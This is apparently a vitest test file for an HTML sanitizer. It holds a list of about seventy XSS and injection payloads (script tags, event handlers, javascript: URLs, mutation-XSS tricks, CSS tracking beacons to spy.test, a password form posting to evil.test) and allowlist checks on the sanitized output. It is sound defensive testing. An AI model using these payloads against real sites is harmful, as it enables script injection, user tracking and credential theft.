import { ElementType, parseDocument } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { sanitizeHtml } from './safe-html.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//x.test/a.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://spy.test/1.png 2x">',
  '<img lowsrc="https://spy.test/1.png">',
  '<img dynsrc="https://spy.test/1.png">',
  '<img src="//spy.test/1.png">',
  '<img src="\\\\spy.test\\1.png">',
  '<img src="ftp://spy.test/1.png">',
  '<picture><source srcset="https://spy.test/1.png"></picture>',
  '<video src="https://spy.test/1.mp4" autoplay onloadstart=alert(1)></video>',
  '<video poster="https://spy.test/1.png"></video>',
  '<audio src="https://spy.test/1.mp3" autoplay></audio>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image href="https://spy.test/1.png"/></svg>',
  '<svg><use href="data:image/svg+xml,x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://spy.test/x.swf">',
  '<applet code="x"></applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="\tjavascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test" onclick="alert(1)">x</a>',
  '<a href="x" style="x:expression(alert(1))">x</a>',
  '<form action="https://evil.test"><input name=password><button>ok</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select onchange=alert(1)><option>x</option></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1) background="https://spy.test/1.png">',
  '<table background="https://spy.test/1.png"><tr><td background="https://spy.test/2.png">x</td></tr></table>',
  '<style>@import url(https://spy.test/x.css);</style>',
  '<style>body{background:url(https://spy.test/1.png)}</style>',
  '<link rel=stylesheet href="https://spy.test/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<div style="background:url(https://spy.test/1.png)">x</div>',
  '<div style="background-color:u\\72l(https://spy.test/1.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="color:red;behavior:url(x.htc)">x</div>',
  "<div style=\"font-family:'a';background-image:image-set('https://spy.test/1.png' 1x)\">x</div>",
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onpointerenter=alert(1)>x</x>',
]

type Nodes = ReturnType<typeof parseDocument>['children']

/** Every tag and attribute of a document, as a browser that is not fooled reads it. */
function* walk(nodes: Nodes): Generator<{ tag: string; attribs: Readonly<Record<string, string>> }> {
  for (const node of nodes) {
    if (node.type === ElementType.Comment || node.type === ElementType.Directive)
      yield { tag: node.type, attribs: {} }
    if (!('name' in node) || !('attribs' in node)) continue
    yield { tag: node.name, attribs: node.attribs }
    yield* walk(node.children)
  }
}

const tags =
  /^(?:a|abbr|address|b|big|blockquote|br|center|code|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)$/
const names =
  /^(?:style|dir|lang|align|valign|width|height|bgcolor|color|title|href|rel|target|src|data-src|alt|face|size|border|cellpadding|cellspacing|colspan|rowspan|start|type)$/

describe('sanitizeHtml', () => {
  test.each(attacks)('lets nothing run, load, cover or send: %s', (attack) => {
    for (const html of [attack, `<div>${attack}</div>`, attack.repeat(3), attack.slice(0, -1)]) {
      for (const { tag, attribs } of walk(parseDocument(sanitizeHtml(html) ?? '').children)) {
        expect(tag).toMatch(tags)
        for (const [name, value] of Object.entries(attribs)) {
          expect(name).toMatch(names)
          if (name === 'src') expect(value).toMatch(/^cid:/i)
          if (name === 'data-src') expect(value).toMatch(/^https?:\/\/|^$/)
          if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|x$|$)/)
          if (name === 'style')
            expect(value).not.toMatch(/url|image|expression|position|z-index|behavior|var\(|\\/i)
        }
      }
    }
  })
})
